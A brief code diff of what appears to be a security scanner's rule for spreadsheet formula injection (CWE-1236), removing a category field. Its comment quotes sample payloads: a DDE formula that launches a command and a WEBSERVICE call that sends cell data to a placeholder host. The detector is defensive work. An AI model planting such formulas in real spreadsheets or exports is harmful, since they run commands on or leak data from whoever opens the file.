@@ -5,7 +5,6 @@ import type { Match, ValueRule } from '../rule.ts';
 /** `=cmd|'/c calc'!A0`, `=WEBSERVICE("http://x/"&A1)`: cells that act when a sheet is opened. */
 export const formula: ValueRule = {
   id: 'code.formula',
-  category: 'code',
   cwe: 'CWE-1236',
   severity: 'high',
   score: confidence.strong,
